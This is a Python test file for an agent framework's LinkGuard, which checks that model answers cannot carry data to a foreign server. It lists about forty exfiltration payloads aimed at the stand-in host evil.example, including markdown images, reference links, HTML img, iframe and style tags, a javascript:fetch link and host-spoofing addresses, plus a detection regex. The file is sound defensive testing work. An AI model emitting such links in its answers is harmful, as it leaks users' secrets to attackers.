"""Links and images in answers: a model that writes data into an address shows it to nobody's server."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator

import pytest

from pilotage import (
    Agent,
    AgentEvent,
    AgentExecutionSpec,
    Application,
    IAgentModel,
    MessageDeltaEvent,
    ModelRequest,
    ModelResponse,
    RunAgentInput,
    StreamingExposureMode,
)
from pilotage.agent import LinkGuard, ModelStreamEvent, ModelStreamEventKind
from pilotage.runtime import AgentRunner

pytestmark = pytest.mark.attack("links")

ATTACKS = {
    "image": "![x](https://evil.example/?d=SECRET)",
    "image with a title": '![x](https://evil.example/?d=SECRET "a title")',
    "image in brackets": "![x](<https://evil.example/?d=SECRET>)",
    "image on the next line": "![x](\n  https://evil.example/?d=SECRET)",
    "image in a link": "[![x](https://evil.example/SECRET)](https://docs.example.org/)",
    "image in the address of a link": "[a](https://docs.example.org/![x](https://evil.example/SECRET)",
    "image of a reference": "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
    "image of a short reference": "![r]\n\n[r]: //evil.example/?d=SECRET",
    "reference in a quote": "![r]\n\n> [r]: //evil.example/?d=SECRET",
    "reference over two lines": "![r]\n\n[r]:\n//evil.example/?d=SECRET",
    "link": "[click](https://evil.example/?d=SECRET)",
    "link in brackets with another": "[a](<x [click](//evil.example/SECRET)>",
    "protocol-relative": "![x](//evil.example/?d=SECRET)",
    "backslashes": "![x](\\\\evil.example/?d=SECRET)",
    "slash and backslash": "![x](/\\evil.example/?d=SECRET)",
    "relative": "![x](/redirect?to=evil.example&d=SECRET)",
    "data": "![x](data:image/svg+xml;base64,PHN2Zy8+SECRET)",
    "javascript": "[x](javascript:fetch('//evil.example/SECRET'))",
    "another scheme": "[x](ftp://evil.example/SECRET)",
    "an entity for a letter": "![x](&#104;ttps://evil.example/SECRET)",
    "a name before the host": "![x](https://docs.example.org@evil.example/SECRET)",
    "an escaped name before the host": "![x](https://docs.example.org\\@evil.example/SECRET)",
    "a longer host": "![x](https://docs.example.org.evil.example/SECRET)",
    "another port": "![x](https://docs.example.org:8443/SECRET)",
    "a tag": "<img src='https://evil.example/?d=SECRET'>",
    "a tag without quotes": "<IMG SRC=//evil.example/SECRET>",
    "a tag without an end": "<img src=//evil.example/SECRET ",
    "a tag with a slash": "<img/src=//evil.example/SECRET>",
    "a link as a tag": '<a href="https://evil.example/SECRET">x</a>',
    "a style": "<b style=\"background:url('//evil.example/SECRET')\">x</b>",
    "a style sheet": "<style>@import '//evil.example/SECRET';</style>",
    "a frame": "<iframe src=//evil.example/SECRET></iframe>",
    "autolink": "<https://evil.example/?d=SECRET>",
    "bare address": "See https://evil.example/?d=SECRET",
    "bare address in capitals": "See HTTPS://EVIL.EXAMPLE/?d=SECRET",
    "address in an address": "See x://https://evil.example/?d=SECRET",
    "name without a scheme": "See www.evil.example/?d=SECRET",
    "name before a bracket": "www.(https://evil.example/SECRET)",
}
WORKS = re.compile(
    r"\][(:]\s*+<?+(?!https://docs\.example\.org[/)\s])|<(?:img|a|b|style|iframe)[\s/=>]|[a-z]://(?!docs)|\bwww\.",
    re.IGNORECASE,
)


@Agent(spec=AgentExecutionSpec(streaming_exposure_mode=StreamingExposureMode.NO_STREAM_UNTIL_FINAL_GUARDED))
class Helper:
    """Answer questions."""


class Pieces(IAgentModel):
    """Says a text in pieces of three characters."""

    def __init__(self, text: str) -> None:
        self._text = text

    async def complete(self, request: ModelRequest) -> ModelResponse:
        return ModelResponse(self._text)

    async def stream(self, request: ModelRequest) -> AsyncIterator[ModelStreamEvent]:
        for start in range(0, len(self._text), 3):
            piece = self._text[start : start + 3]
            yield ModelStreamEvent(ModelStreamEventKind.TOKEN_DELTA, token_delta=piece)
        yield ModelStreamEvent(ModelStreamEventKind.DONE, response=ModelResponse(self._text))


@pytest.mark.parametrize("attack", ATTACKS)
async def test_no_address_of_a_stranger_works_in_what_is_streamed_or_returned(attack: str) -> None:
    """The model's words come in small pieces, so that every address is cut."""
    text = f"Before. {ATTACKS[attack]} after."
    events: list[AgentEvent] = []
    app = Application("help").add(Helper, Pieces(text), LinkGuard(["docs.example.org"]))
    async with app.load_plugins() as running:
        runner = AgentRunner.for_agent_instance(running.get(Helper))
        events = [event async for event in runner.run_events(RunAgentInput("r-1", "go"))]
    streamed = "".join(event.delta for event in events if isinstance(event, MessageDeltaEvent))
    answer = str(events[-1].metadata["output"])
    for shown in (streamed, answer):
        assert WORKS.search(shown) is None, shown
    assert "SECRET" in answer


async def test_links_of_a_structured_answer_are_looked_at_too() -> None:
    guard = LinkGuard()
    checked = await guard.check(None, {"a": ["![x](//evil.example)", 1, None], "b": True})  # type: ignore[arg-type]
    assert checked == {"a": ["![x]&#40;//evil.example)", 1, None], "b": True}
